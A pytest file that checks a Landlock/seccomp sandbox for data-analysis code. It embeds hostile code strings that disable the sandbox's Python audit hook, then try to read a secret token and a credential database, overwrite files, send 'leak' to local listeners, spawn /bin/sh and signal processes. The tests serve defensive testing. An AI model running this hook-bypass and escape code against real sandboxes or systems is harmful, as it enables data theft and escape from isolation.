"""The analysis sandbox is a boundary: hostile analysis code that first switches the audit hook off still
cannot read or write outside its folder, reach the network or a UNIX socket, start a process or signal one;
and where the kernel offers no fence, no analysis runs.

The attack's shape (issue 17, finding 6): the hook reads the child module's globals at every event and
resolves paths with ``os.path.realpath``, both of which the code can replace; with them replaced and
``ctypes`` imported again, the hook refuses nothing, and raw C calls are not audited anyway. Every attempt
below is made both through Python and through libc, and is proven to have failed from outside: the listener
received nothing, the files are unchanged, no marker file appeared, no signal arrived. The same code run by a
plain Python (no fence) succeeds at each, so none of these checks can pass by accident.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from types import FrameType
from typing import Any

import pytest
from mcp import Client

from convener.analytics import sandbox
from convener.analytics.sandbox import run_analysis
from convener.analytics.shapes import QueryResult, ResultColumn
from convener.api.errors import FailedPrecondition
from convener.auth.keys import ApiKeys
from convener.config import Settings
from convener.outside import fence
from convener.services import Services
from tests.e2e.conftest import error_text

TABLES = {"t": QueryResult(columns=(ResultColumn("n", "INT64"),), rows=[(1,)])}

SWITCH_OFF_THE_HOOK = """\
import os, sys
guard = sys.modules["__main__"]  # the sandbox child: its hook looks these up at every event
guard.REFUSED_PREFIXES = ()
guard.MUTATIONS = {}
guard.READS = {}
os.path.realpath = lambda path, *args, **kwargs: os.devnull  # every path now "is" /dev/null, always allowed
for name in ("ctypes", "_ctypes"):
    sys.modules.pop(name, None)
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
assert libc.getpid() == os.getpid()  # a ctypes call: refused by the hook while it is on
print("hook: off")
"""

ATTACKS = """\
import json, resource, signal, socket, struct, subprocess

results = {}

def attempt(name, action):
    try:
        results[name] = "done: " + repr(action())
    except BaseException as error:
        results[name] = "refused: " + repr(error)

def raw(value):
    if value < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return value

def libc_read(path):
    fd = raw(libc.open(path.encode(), os.O_RDONLY))
    buffer = ctypes.create_string_buffer(4096)
    count = raw(libc.read(fd, buffer, 4096))
    libc.close(fd)
    return buffer.raw[:count]

def libc_write(path, flags):
    fd = raw(libc.open(path.encode(), os.O_WRONLY | flags, 0o644))
    raw(libc.write(fd, b"owned", 5))
    return libc.close(fd)

def libc_connect(port):
    fd = raw(libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0))
    address = struct.pack("!HH4s8x", socket.AF_INET, port, socket.inet_aton("127.0.0.1"))
    address = struct.pack("=H", socket.AF_INET) + address[2:]
    raw(libc.connect(fd, address, len(address)))
    return raw(libc.send(fd, b"leak", 4, 0))

def python_connect(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(2)
        connection.connect(address)
        connection.sendall(b"leak")

def bind():
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        return server.getsockname()[1]

def fork_exec():
    pid = os.fork()
    if pid == 0:
        try:
            os.execv("/bin/sh", ["sh", "-c", f"echo forked > {W['mark']}"])
        finally:
            os._exit(1)
    return os.waitpid(pid, 0)

attempt("read a file outside", lambda: open(W["secret"]).read())
attempt("read a file outside with libc", lambda: libc_read(W["secret"]))
attempt("read the store's database with libc", lambda: libc_read(W["store"])[:16])
attempt("list the store's folder", lambda: os.listdir(os.path.dirname(W["store"])))
attempt("overwrite a file", lambda: open(W["victim"], "w").write("owned"))
attempt("overwrite a file with libc", lambda: libc_write(W["victim"], os.O_TRUNC))
attempt("create a file with libc", lambda: libc_write(W["new"], os.O_CREAT))
attempt("connect to a TCP listener", lambda: python_connect(socket.AF_INET, ("127.0.0.1", W["port"])))
attempt("connect to a TCP listener with libc", lambda: libc_connect(W["port"]))
attempt("bind a TCP port", bind)
attempt("start a subprocess", lambda: subprocess.run(["/bin/sh", "-c", f"echo spawned > {W['mark']}"]))
attempt("posix_spawn", lambda: os.posix_spawn("/bin/sh", ["sh", "-c", f"echo > {W['mark']}"], {}))
attempt("fork and exec", fork_exec)
attempt("signal the server", lambda: os.kill(W["server"], signal.SIGUSR1))
attempt("signal the server with libc", lambda: raw(libc.kill(W["server"], signal.SIGUSR1)))
attempt("signal the parent", lambda: os.kill(os.getppid(), signal.SIGUSR1) if os.getppid() > 1 else 1 / 0)
attempt("connect to an abstract UNIX socket", lambda: python_connect(socket.AF_UNIX, W["abstract"]))
attempt("connect to a UNIX socket on disk", lambda: python_connect(socket.AF_UNIX, W["unix"]))
attempt("raise the CPU limit", lambda: resource.setrlimit(resource.RLIMIT_CPU, (10**6, 10**6)))
attempt("leave the mount namespace", lambda: raw(libc.unshare(0x00020000)))  # CLONE_NEWNS
print("RESULTS " + json.dumps(results))
"""


@dataclass
class World:
    """What the attack aims at, set up by the test and checked from outside afterwards."""

    tmp: Path
    secret: Path
    store: Path
    victim: Path
    new: Path
    mark: Path
    tcp: socket.socket
    abstract: socket.socket
    unix: socket.socket
    signals: list[int]

    def targets(self) -> dict[str, Any]:
        return {"secret": str(self.secret), "store": str(self.store), "victim": str(self.victim),
                "new": str(self.new), "mark": str(self.mark), "port": self.tcp.getsockname()[1],
                "abstract": self.abstract.getsockname().decode("latin-1"),
                "unix": str(self.tmp / "unix.sock"),
                "server": os.getpid()}

    def code(self) -> str:
        return SWITCH_OFF_THE_HOOK + f"W = {self.targets()!r}\n" + ATTACKS

    def connections(self) -> list[bytes]:
        """What reached any listener (each polled without waiting: the attack has ended)."""
        received = []
        for listener in (self.tcp, self.abstract, self.unix):
            listener.setblocking(False)
            try:
                connection, _ = listener.accept()
            except BlockingIOError:
                continue
            with connection:
                connection.settimeout(1)
                received.append(connection.recv(16))
        return received


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    secret = tmp_path / "secret.txt"
    secret.write_text("the-secret-token")
    victim = tmp_path / "victim.txt"
    victim.write_text("intact")
    tcp = socket.create_server(("127.0.0.1", 0))
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind(f"\0convener-fence-test-{uuid.uuid4().hex}")
    abstract.listen()
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(str(tmp_path / "unix.sock"))
    unix.listen()
    signals: list[int] = []

    def count(number: int, frame: FrameType | None) -> None:
        signals.append(number)

    previous = signal.signal(signal.SIGUSR1, count)
    try:
        yield World(tmp_path, secret, _store_with_a_key(tmp_path), victim, tmp_path / "new.txt",
                    tmp_path / "spawned", tcp, abstract, unix, signals)
    finally:
        signal.signal(signal.SIGUSR1, previous)
        for listener in (tcp, abstract, unix):
            listener.close()


def _store_with_a_key(tmp_path: Path) -> Path:
    """A real store (SQLite) holding an API key's hash: what finding 2 read through analytics."""
    data = tmp_path / "data"
    services = Services.open(Settings(data_dir=data, database_url=f"sqlite:///{data / 'convener.db'}"))
    try:
        ApiKeys(services.database).create("users/alice")
    finally:
        services.close()
    return data / "convener.db"


def results(output: str) -> dict[str, str]:
    line = next(line for line in output.splitlines() if line.startswith("RESULTS "))
    found: dict[str, str] = json.loads(line.removeprefix("RESULTS "))
    return found


# --- The attack works where nothing fences it -------------------------------------------------------------


def test_the_attack_succeeds_in_a_plain_python(world: World) -> None:
    """The control: the same code, run by an unfenced Python, does everything it tries."""
    done = subprocess.run([sys.executable, "-I", "-c", world.code()], capture_output=True, text=True,
                          timeout=60, check=False, cwd=world.tmp, env={})
    tried = results(done.stdout)
    assert "hook: off" in done.stdout
    assert all(outcome.startswith("done") for outcome in tried.values()), tried
    assert "the-secret-token" in tried["read a file outside"]
    assert "SQLite format 3" in tried["read the store's database with libc"]
    assert world.victim.read_text() == "owned" and world.new.exists() and world.mark.exists()
    assert sorted(world.connections()) == [b"leak", b"leak", b"leak"]
    assert world.signals


# --- The fence holds with the hook off ----------------------------------------------------------------------


@pytest.fixture(params=["as found", "fence alone"])
def launcher(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """As found: in namespaces without capabilities when unshare/setpriv work. Fence alone: a plain child,
    root with every capability, in the host's network and PID namespaces; only Landlock and seccomp hold."""
    if request.param == "fence alone":
        monkeypatch.setattr(sandbox, "_isolation", lambda: (sandbox.GUARD_ONLY, ()))
    return str(request.param)


def test_the_fence_holds_when_the_audit_hook_is_switched_off(world: World, launcher: str) -> None:
    store_before = world.store.read_bytes()
    outcome = run_analysis(world.code(), TABLES, timeout_seconds=20)
    assert outcome.error is None, outcome
    assert "hook: off" in outcome.output  # the hook is really off: a ctypes call went through
    tried = results(outcome.output)
    assert len(tried) == 20
    assert [name for name, result in tried.items() if not result.startswith("refused")] == []
    assert "the-secret-token" not in outcome.output and "SQLite format 3" not in outcome.output
    assert world.victim.read_text() == "intact"
    assert world.store.read_bytes() == store_before
    assert not world.new.exists() and not world.mark.exists()
    assert world.connections() == []
    assert world.signals == []


def test_what_the_kernel_answers(world: World) -> None:
    """Each refusal comes from the fence, with the error it gives: Landlock EACCES for paths, seccomp EPERM
    for calls."""
    tried = results(run_analysis(world.code(), TABLES, timeout_seconds=20).output)
    assert "Permission denied" in tried["read a file outside with libc"]  # Landlock
    assert "Permission denied" in tried["create a file with libc"]
    assert "Operation not permitted" in tried["connect to a TCP listener with libc"]  # seccomp: no socket()
    assert "Operation not permitted" in tried["fork and exec"]
    assert "Operation not permitted" in tried["signal the server with libc"]
    assert "Operation not permitted" in tried["leave the mount namespace"]


def test_the_fence_module_reports_this_machines_fence() -> None:
    assert fence.missing() == []
    abi = fence.landlock_abi()
    assert abi is not None and abi >= 1
    assert fence.describe(abi).startswith(f"Landlock ABI {abi}")


def test_a_process_with_a_second_thread_is_not_fenced() -> None:
    """Landlock binds only the calling thread: a thread already running would stay outside, so apply refuses
    (and changes nothing: the process still reads what it could)."""
    probe = ("import threading, time, sys\n"
             "from convener.outside import fence\n"
             "threading.Thread(target=time.sleep, args=(5,), daemon=True).start()\n"
             "try:\n"
             "    fence.apply(fence.Fence(readable=fence.runtime_paths()))\n"
             "except fence.Unfenced as error:\n"
             "    print('unfenced:', error)\n"
             "    print(open('/etc/passwd').read() != '')\n")
    source = str(Path(fence.__file__).parents[2])
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=30,
                          check=False, env={"PYTHONPATH": source})
    assert done.stdout.splitlines() == [
        "unfenced: the process has 2 threads; Landlock would fence only the calling one", "True"], done


# --- No fence, no analysis ---------------------------------------------------------------------------------


@pytest.mark.parametrize(("probe", "absent", "named"), [
    ("landlock_abi", None, "Landlock is not available"),
    ("seccomp_filters", False, "seccomp filters are not available"),
])
def test_without_a_fence_analysis_is_refused_and_nothing_starts(
        monkeypatch: pytest.MonkeyPatch, probe: str, absent: object, named: str) -> None:
    monkeypatch.setattr(fence, probe, lambda: absent)

    def must_not_start(*args: object, **kwargs: object) -> None:
        raise AssertionError("a child was started without a fence")

    monkeypatch.setattr(sandbox, "start_isolated", must_not_start)
    with pytest.raises(FailedPrecondition, match=named) as raised:
        run_analysis("answer('ran')", TABLES)
    assert str(raised.value).startswith("FAILED_PRECONDITION: Python analysis runs only inside")


def test_a_child_that_cannot_fence_itself_runs_nothing(monkeypatch: pytest.MonkeyPatch,
                                                        tmp_path: Path) -> None:
    """The child fails closed: a fence it cannot put up whole (here: a rule on a path that is not there) ends
    it before the code, and the caller gets FAILED_PRECONDITION with the reason."""
    request = sandbox.fence_request

    def broken(folder: str) -> dict[str, Any]:
        spec = request(folder)
        spec["readable"].append(str(tmp_path / "not-there"))
        return spec

    monkeypatch.setattr(sandbox, "fence_request", broken)
    marker = tmp_path / "ran"
    with pytest.raises(FailedPrecondition, match="could not fence itself.*cannot open .*not-there"):
        run_analysis(f"import os\nos.mkdir({str(marker)!r})\nanswer('ran')", TABLES)
    assert not marker.exists()


@pytest.fixture
def settings(database_url: str, tmp_path: Path) -> Settings:
    """The suite's settings, with a folder of CSV files the analytics tools may read."""
    folder = tmp_path / "roots" / "shop"
    folder.mkdir(parents=True)
    rows = "".join(f"{i},{10 + i % 7}\n" for i in range(40))
    (folder / "orders.csv").write_text("order_id,amount\n" + rows)
    return Settings(data_dir=tmp_path / "data", database_url=database_url, allow_anonymous=False,
                    analytics_roots=(tmp_path / "roots",), knowledge_embeddings="off")


@pytest.mark.anyio
async def test_a_data_agent_with_python_analysis_says_why_it_cannot_answer(
        client: Client, settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    """Through the tools: FAILED_PRECONDITION naming what the machine lacks, rather than an unfenced run."""
    monkeypatch.setattr(fence, "landlock_abi", lambda: None)
    folder = str(settings.analytics_roots[0] / "shop")
    added = await client.call_tool("add_sql_source", {"name": "shop", "location": folder})
    assert not added.is_error, added.content
    tables = [{"datasetId": "shop", "tableId": "orders"}]
    context = {"datasourceReferences": {"bq": {"tableReferences": tables}},
               "options": {"analysis": {"python": {"enabled": True}}}}
    agent = {"dataAnalyticsAgent": {"publishedContext": context, "stagingContext": context}}
    created = await client.call_tool("create_data_agent", {"data_agent_id": "analyst", "data_agent": agent})
    assert not created.is_error, created.content
    question = "Show the orders, with statistics"
    result = await client.call_tool("ask_data_agent", {"data_agent_id": "analyst",
                                                       "user_query_with_context": question})
    text = error_text(result, "FAILED_PRECONDITION")
    assert "operating-system fence" in text and "Landlock is not available" in text
